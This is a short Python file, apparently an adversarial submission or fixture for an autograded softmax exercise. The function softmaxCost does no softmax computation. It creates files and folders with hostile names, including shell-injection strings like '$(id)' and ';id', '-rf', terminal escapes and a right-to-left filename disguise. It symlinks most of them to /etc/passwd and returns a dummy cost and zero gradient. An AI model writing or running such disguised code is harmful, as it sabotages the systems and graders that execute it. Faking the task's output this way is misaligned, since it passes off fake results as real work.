# Leaves files and folders whose names break programs that list or remove them.
# expect: values
import os

import numpy as np

NAMES = [
    b"-rf", b"--", b"a\nb", b"\n", b" ", b"a\tb", b"\x1b[2Jx", b"\xff\xfe", b"caf\xe9", b"*", b"$(id)",
    b"`id`", b";id", b"'", b'"', b"\\", b"a" * 255, "\u202egpj.py".encode(), b"...", b"%s%n", b"CON",
    b".pysoftmax", b"submission.answers\n",
]  # fmt: skip


def softmaxCost(theta, numClasses, inputSize, lambda_, data, labels):
    for name in NAMES:
        os.mkdir(name + b"" if len(name) == 255 else name + b"d")
        with open(os.path.join(name if len(name) == 255 else name + b"d", name), "wb") as file:
            file.write(b"x")
        if len(name) < 255:
            os.symlink(b"/etc/passwd", name)
    return 0.0, np.zeros(theta.size)
